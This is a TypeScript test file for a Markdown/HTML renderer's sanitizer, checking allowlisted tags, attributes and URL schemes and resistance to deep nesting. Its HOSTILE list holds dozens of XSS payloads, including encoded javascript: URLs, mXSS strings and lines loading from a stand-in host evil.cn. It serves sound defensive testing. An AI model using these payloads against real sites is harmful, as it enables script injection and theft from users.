import type { Element, Nodes } from 'hast';
import { htmlToHast } from 'satteri';
import { describe, expect, it } from 'vitest';
import { renderForTest } from './test-context.ts';

const TAGS = new Set(
  (
    'p div span br hr blockquote pre h2 h3 h4 h5 h6 section b strong i em u s del ins sub sup small mark abbr cite q ' +
    'code kbd ruby rt rp time a img ul ol li dl dt dd details summary figure figcaption ' +
    'table caption thead tbody tfoot tr th td'
  ).split(' '),
);
const ATTRIBUTES = new Set(
  (
    'href title rel id className src alt width height loading decoding scope colSpan rowSpan role ariaLabel tabIndex ' +
    'start reversed open dateTime dataFootnotes dataFootnoteRef dataFootnoteBackref ariaDescribedBy'
  ).split(' '),
);
const ADDRESS = /^(?:\/base\/|#|https?:\/\/|mailto:|tel:)/;

function elements(node: Nodes): Element[] {
  const inside = 'children' in node ? node.children.flatMap((child) => elements(child)) : [];
  return node.type === 'element' ? [node, ...inside] : inside;
}

/** What is wrong with a page's HTML, read as a browser reads it. */
function dangers(html: string): string[] {
  const tree = htmlToHast(html, { fragment: true });
  return elements(tree).flatMap(({ tagName, properties }) => [
    ...(TAGS.has(tagName) ? [] : [`<${tagName}>`]),
    ...Object.keys(properties).filter((name) => !ATTRIBUTES.has(name)),
    ...[properties.href, properties.src]
      .filter((url) => url !== undefined && !(typeof url === 'string' && ADDRESS.test(url)))
      .map((url) => JSON.stringify(url)),
  ]);
}

const HOSTILE = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=https://evil.cn/x.js></SCRIPT>',
  '<script',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<math><mi//xlink:href="data:x,<script>alert(1)</script>">',
  '<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=alert(1) src>">',
  '<img src=x onerror=alert(1)>',
  '<img/src=x/onerror=alert(1)>',
  '<img src="data:image/svg+xml;base64,PHN2Zz4=" alt="图">',
  '<img src="//evil.cn/x.png">',
  '<img src="https://evil.cn/x.png">',
  '<img src="&#106;avascript:alert(1)">',
  '<img srcset="https://evil.cn/x 2x" src="./a.jpg">',
  '<a href="javascript:alert(1)">词</a>',
  '<a href="java&#x73;cript:alert(1)">词</a>',
  '<a href="java&Tab;script:alert(1)">词</a>',
  '<a href=" &#1; javascript:alert(1)">词</a>',
  '<a href="JAVASCRIPT&colon;alert(1)">词</a>',
  '<a href="vbscript:x" onclick="x()" style="color:red" target=_blank ping="https://evil.cn">词</a>',
  '<a href="data:text/html,<script>alert(1)</script>">词</a>',
  '<a href="metric:%70roblems">词</a>',
  '<a href="#fn" data-footnote-ref id="x" class="y">词</a>',
  '<a href="javascript:alert(1)" data-footnote-ref>词</a>',
  '<base href="https://evil.cn/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.cn">',
  '<link rel=stylesheet href="https://evil.cn/x.css">',
  '<style>@import "https://evil.cn/x.css";</style>',
  '<p style="background:url(https://evil.cn)">段</p>',
  '<div id="main" class="hero" onmouseover="x()">段</div>',
  '<iframe src="https://evil.cn"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="x.swf"></object><embed src="x.swf">',
  '<form action="https://evil.cn"><input name=q autofocus onfocus=alert(1)><button>go</button></form>',
  '<input type="image" src="x" onerror="x()">',
  '<video src=x onerror=alert(1)><source src="https://evil.cn"></video><audio src=x>',
  '<details open ontoggle=alert(1)><summary>一</summary>二</details>',
  '<template><img src=x onerror=alert(1)></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<textarea><script>alert(1)</script></textarea><title><script>alert(1)</script></title>',
  '<xmp><script>alert(1)</script></xmp>',
  '<plaintext><script>alert(1)</script>',
  '<!--><script>alert(1)</script>-->',
  '<!-- <!-- --> <script>alert(1)</script> -->',
  '<!-- 未完 <script>alert(1)</script>',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<?xml version="1.0"?><?php echo 1 ?>',
  '<!DOCTYPE html><html><body onload=alert(1)>',
  '<table><tr><td background="javascript:x" style="text-align: left;background:url(x)">格</table>',
  '<b><i>交错</b></i><div><p>未关',
  '<custom-element onclick=x>词</custom-element>',
  '<a href="https://a.cn" rel="opener">词</a><marquee onstart=alert(1)>词</marquee>',
  '[词](javascript:alert(1))',
  '[词](<java\tscript:alert(1)>)',
  '[词](java&#115;cript:alert(1))',
  '[词](JAVASCRIPT&colon;alert(1))',
  '[词][x]\n\n[x]: javascript:alert(1)',
  '<javascript:alert(1)>',
  '![图](javascript:alert(1))',
  '![图](data:image/png;base64,AAAA)',
  '![图](https://evil.cn/x.png "题")',
  '![" onerror="alert(1)](./a.jpg "\\"><script>alert(1)</script>")',
  '```js" onclick="x\nalert(1)\n```',
  '| <script>alert(1)</script> |\n|:-:|\n| <img src=x onerror=alert(1)> |',
  '[^1]\n\n[^1]: <script>alert(1)</script>',
  '[^"><script>]\n\n[^"><script>]: 注',
  '# <a id="main" name="toc">题</a>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '\u0000<script>alert(1)</script>\uFFFE',
];

describe('whatever an article holds', () => {
  it.each(HOSTILE)('%j comes out harmless', (body) => {
    const html = renderForTest(body);
    expect(dangers(html)).toEqual([]);
    // The same words in the tree of the CJK-friendly parser.
    expect(dangers(renderForTest(`**“一”**二${body}\n\n${body}`))).toEqual([]);
  });

  it('finds the dangers that it looks for', () => {
    expect(
      dangers('<p style="x" onclick="y"><a href="javascript:1">x</a></p><script></script>'),
    ).toHaveLength(4);
  });

  it.each([
    ['quotations', '>'.repeat(10_000) + '词'],
    ['quotations with emphasis', '>'.repeat(3_000) + '**“词”**一'],
    ['lists', '- '.repeat(10_000) + '词'],
    ['brackets', '['.repeat(20_000) + '词'],
    ['links', '['.repeat(5_000) + '词' + '](u)'.repeat(5_000)],
    ['emphasis', '*a '.repeat(5_000) + '词' + ' b*'.repeat(5_000)],
    ['raw HTML', '<b>'.repeat(10_000) + '词'],
    ['raw HTML with emphasis', '<b>'.repeat(10_000) + '**“词”**一'],
    ['blocks of raw HTML', '<div>\n'.repeat(10_000) + '词'],
  ])('survives %s nested thousands deep, and keeps the words', (_name, body) => {
    expect(renderForTest(body)).toContain('词');
  });

  it('keeps the prose of ordinary HTML', () => {
    const written =
      'H<sub>2</sub>O、<ruby>商<rt>shāng</rt></ruby>、<u>线</u>、<time datetime="2023-01-11">当天</time>';
    expect(renderForTest(written)).toBe(`<p>${written}</p>`);
  });

  it('treats links and pictures of HTML as those of Markdown', () => {
    expect(renderForTest('查出<a href="metric:problems-found">192个</a>问题')).toBe(
      renderForTest('查出[192个](metric:problems-found)问题'),
    );
    expect(renderForTest('<p><img src="./a.jpg" alt="图" title="题"></p>')).toBe(
      renderForTest('![图](./a.jpg "题")'),
    );
  });
});
